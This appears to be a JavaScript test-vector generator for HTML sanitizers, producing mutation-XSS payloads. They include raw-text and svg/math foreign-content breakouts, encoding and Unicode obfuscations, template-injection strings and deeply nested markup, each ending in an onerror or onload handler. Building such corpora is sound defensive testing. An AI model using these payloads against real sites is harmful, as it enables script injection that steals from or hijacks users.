// Markup that becomes other markup when it is written out and read again: raw text, foreign content, tables, depth.
import { cross, vector } from './make.mjs';

const RAW = ['style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'noscript', 'iframe', 'script', 'plaintext', 'desc', 'mtext'];
const AROUND = ['WHAT', '<svg>WHAT', '<math>WHAT', '<svg><foreignObject>WHAT', '<svg><desc>WHAT', '<math><mtext>WHAT', '<math><annotation-xml encoding="text/html">WHAT', '<math><mtext><table><mglyph>WHAT', '<form><math><mtext></form><form><mglyph>WHAT', '<table><tr>WHAT', '<select>WHAT', '<template>WHAT', '<svg></p>WHAT', '<math><mi><svg>WHAT', '<noscript>WHAT', '<details><summary>WHAT'];

const BREAKS = RAW.flatMap((raw) => [
  vector(`<${raw}><a id="</${raw}><img src=x onerror=RUN>">x`),
  vector(`<${raw}><!--</${raw}><img title="--&gt;&lt;img src=x onerror=RUN&gt;">`),
]);

const BY_HAND = [
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style></svg>', '<svg><title>&lt;/title>&lt;img src=x onerror=RUN></title>', '<math><style><img title="</style><img src=x onerror=RUN>">', '<p><svg><p><style><a title="</style><img src=x onerror=RUN>">', '<a><table><a><img src=x onerror=RUN></a></table></a>', '<b><p><b><img alt="</p><img src=x onerror=RUN>"></b></p>', '<listing>&lt;img src=x onerror=RUN&gt;</listing>', '<xmp><p title="</xmp><svg onload=RUN>"></xmp>', '<![CDATA[<img src=x onerror=RUN>]]>', '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>', '<?xml version="1.0"?><img src=x onerror=RUN>', '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;', '<!-- --!><img src=x onerror=RUN> -->', '<!--><svg onload=RUN>', '<!---><svg onload=RUN>', '<!x><img src=x onerror=RUN>', '</x a="><img src=x onerror=RUN>">', '<%<img src=x onerror=RUN>%>', '<? <img src=x onerror=RUN> ?>',
  '<a href="x&quot; onmouseover=RUN//">x</a>', '<img alt="`><img src=x onerror=RUN>">', '<div id=`x`onmouseover=RUN>x</div>', '<img src="x` `<img src=x onerror=RUN>"` `>', '<p title="&lt;/p&gt;&lt;img src=x onerror=RUN&gt;">x</p>', '<svg><p><title><a id="</title><img src=x onerror=RUN>"></a></title></p></svg>', '<math></p><title><!--</title><img src=x onerror=RUN>-->', '<svg><font color=red><img src=x onerror=RUN></font></svg>', '<svg><mtext><style><path id="</style><img src=x onerror=RUN>"></mtext></svg>', '<table><td><svg><desc><td><img src=x onerror=RUN>', '<select><option><style></option></select><b><img src=x onerror=RUN></style></option>', '<select><keygen><img src=x onerror=RUN></select>', '<frameset><noframes></frameset><img src=x onerror=RUN></noframes>', '<math><mglyph><malignmark><img src=x onerror=RUN>', '<math><annotation-xml encoding=application/xhtml+xml><svg><style><img title="</style><img src=x onerror=RUN>">', '<svg><a xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=RUN></a></svg>', '<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="RUN"/></svg>',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-', '\u00bcscript\u00beRUN\u00bc/script\u00be', '＜script＞RUN＜/script＞', '＜img src=x onerror=RUN＞', '\u202e<img src=x onerror=RUN>\u202c', '<im\u200bg src=x onerror=RUN>', '<img\u00a0src=x\u00a0onerror=RUN>', '<img\u3000src=x\u3000onerror=RUN>', '\ufeff<img src=x onerror=RUN>', '<img src=x on\u0000error=RUN>', '<img src=x onerror\u0085=RUN>', '%3Cimg src=x onerror=RUN%3E', '%253Cscript%253ERUN%253C/script%253E', '\\x3cimg src=x onerror=RUN\\x3e', '\\u003cimg src=x onerror=RUN\\u003e', '&lt;img src=x onerror=RUN&gt;', '&amp;lt;img src=x onerror=RUN&amp;gt;', '&#60;img src=x onerror=RUN&#62;', '&#x3c;svg onload=RUN&#x3e;', '&LT;img src=x onerror=RUN&GT;', '\ud800<img src=x onerror=RUN>', '{{constructor.constructor("RUN")()}}', '${RUN}', '<%= RUN %>', '{@html "<img src=x onerror=RUN>"}', '{{char}}<img src=x onerror=RUN>{{user}}',
];

/** Readers flatten what lies deeper than some hundred elements: what was inside then stands outside. */
const DEEP = ['div', 'b', 'form', 'table><tr><td', 'svg', 'math><mtext', 'span', 'blockquote', 'font', 'nobr'].flatMap((tag) => [60, 255, 512, 600].map((depth) => vector(`${`<${tag}>`.repeat(depth)}<svg><style><a id="</style><img src=x onerror=RUN>">`)));

export function mutationVectors() {
  return [...cross(AROUND, BREAKS), ...BY_HAND.map(vector), ...DEEP];
}
